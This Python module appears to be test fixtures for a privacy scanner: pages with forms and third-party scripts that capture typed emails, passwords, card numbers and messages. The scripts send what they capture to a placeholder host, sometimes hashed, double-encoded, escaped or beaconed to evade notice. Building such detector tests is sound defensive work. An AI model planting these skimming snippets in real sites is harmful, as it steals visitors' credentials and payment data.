"""Pages whose forms are overheard, one way of capturing and sending each; see truth_forms.py."""

from __future__ import annotations

import msgspec

FIELDS = {
    "email": '<label>E-mail <input type="email" name="email" autocomplete="email"></label>',
    "phone": '<label>Phone <input type="tel" name="phone" autocomplete="tel"></label>',
    "name": '<label>Full name <input name="name" autocomplete="name"></label>',
    "card": '<label>Card number <input name="card" inputmode="numeric" '
    'autocomplete="cc-number"></label>',
    "password": '<label>Password <input type="password" name="password" '
    'autocomplete="new-password"></label>',
    "search": '<label>Search <input type="search" name="q"></label>',
    "text": '<label>Your message <textarea name="message"></textarea></label>',
}
"""HTML of one field by its kind."""

BUTTON = '<button type="submit">Send</button>'


def form(*kinds: str) -> str:
    """HTML of a form with these fields that posts to the site itself."""
    fields = "\n".join(FIELDS[kind] for kind in kinds)
    return f'<form method="post" action="/done">\n{fields}\n{BUTTON}\n</form>'


class FormCase(msgspec.Struct, frozen=True, kw_only=True):
    """One page of the form site."""

    path: str
    body: str
    listener: str = ""
    """What the third party's script `/<path>.js` does; empty for a page without one."""
    own: str = ""
    """What the site's own script `/own/<path>.js` does, before the other."""


def heard(path: str, kind: str, program: str, own: str = "") -> FormCase:
    """A plain form with one field that a third party listens to."""
    return FormCase(path=path, body=form(kind), listener=program, own=own)


QUERY = "image('v=' + encodeURIComponent(value))"
TYPED, LEFT = "typed('{}', (value) => {})", "left('{}', async (value) => {})"


def typing(name: str, then: str = QUERY) -> str:
    """Program that does `then` at each key."""
    return TYPED.format(name, then)


def leaving(name: str, then: str) -> str:
    """Program that does `then` when the visitor has finished the field."""
    return LEFT.format(name, then)


SHA256 = "image('h=' + hex(await digest('SHA-256', normal(value))))"
SHA512 = "image('h=' + encodeURIComponent(base64(await digest('SHA-512', normal(value)))))"
TWICE = "image('u=' + encodeURIComponent(encodeURIComponent(value)))"
BEACON = "navigator.sendBeacon(HOST + '/beacon', await gzip(JSON.stringify({ e: btoa(value) })))"
ESCAPED = """{
  const text = JSON.stringify({ fields: { email: value } })
  const spell = (sign) => '\\\\u' + sign.charCodeAt(0).toString(16).padStart(4, '0')
  post(text.replace(/[^a-z0-9{}:", ]/gi, spell))
}"""

ENCODED = (
    heard("keystrokes", "email", typing("email")),
    heard("sha256-blur", "email", leaving("email", SHA256)),
    heard("md5-header", "email", leaving("email", "post('', { 'X-Visitor': md5(normal(value)) })")),
    heard("gzip-beacon", "email", leaving("email", BEACON)),
    heard("socket-text", "email", "const send = socket()\n" + typing("email", "send(value)")),
    heard(
        "socket-binary",
        "email",
        "const send = socket()\n" + typing("email", "send(bytes(btoa(value)))"),
    ),
    heard("json-escaped", "email", leaving("email", ESCAPED)),
    heard("percent-twice", "email", leaving("email", TWICE)),
    heard(
        "sha1-upper",
        "email",
        leaving("email", "image('h=' + hex(await digest('SHA-1', normal(value))).toUpperCase())"),
    ),
    heard("sha512-base64", "email", leaving("email", SHA512)),
    heard(
        "sha256-of-md5",
        "email",
        leaving("email", "image('h=' + hex(await digest('SHA-256', md5(normal(value)))))"),
    ),
    heard(
        "url-path",
        "email",
        leaving("email", "fetch(HOST + '/lead/' + encodeURIComponent(value) + '/new')"),
    ),
)
"""An e-mail address, written in many ways."""

KINDS = (
    heard("password", "password", typing("password", "post(new URLSearchParams({ p: value }))")),
    heard("card", "card", typing("card", "post(new URLSearchParams({ cc: value }))")),
    heard("phone-digits", "phone", leaving("phone", "image('t=' + value.replace(/\\D/g, ''))")),
    heard("name", "name", typing("name")),
    heard("textarea", "text", leaving("message", "post(JSON.stringify({ message: value }))")),
    heard("search", "search", typing("q")),
)
"""Other kinds of fields."""

SUBMIT = """
document.querySelector('form').addEventListener('submit', async () => {
  const hash = hex(await digest('SHA-256', normal(pick('email').value)))
  fetch(`${HOST}/tr?ud%5Bem%5D=${hash}`, { keepalive: true })
})
"""
POLLING = """
let last = ''
setInterval(() => {
  const { value } = pick('email')
  if (value !== last) post(new URLSearchParams({ e: value }))
  last = value
}, 300)
"""
DELEGATED = """
document.addEventListener('input', (event) => {
  const field = event.composedPath()[0]
  image('v=' + encodeURIComponent(field.value ?? field.textContent))
}, true)
"""
DUPLICATE = """
const twin = document.querySelector('form').cloneNode(true)
twin.hidden = true
document.body.append(twin)
typed('email', (value) => {
  twin.elements.email.value = value
  post(new URLSearchParams(new FormData(twin)))
})
"""
OWN_HOST = typing("email", "fetch('/collect', { method: 'POST', body: JSON.stringify({ value }) })")

WAYS = (
    heard("on-submit", "email", SUBMIT),
    heard("polling", "email", POLLING),
    heard("delegated", "email", DELEGATED),
    heard("duplicate-form", "email", DUPLICATE),
    heard("own-host", "email", OWN_HOST),
    FormCase(
        path="editable",
        body='<div contenteditable role="textbox" aria-label="Your message"><br></div>',
        listener=DELEGATED,
    ),
)
"""Other ways to get at it."""

POSITIVE = (*ENCODED, *KINDS, *WAYS)
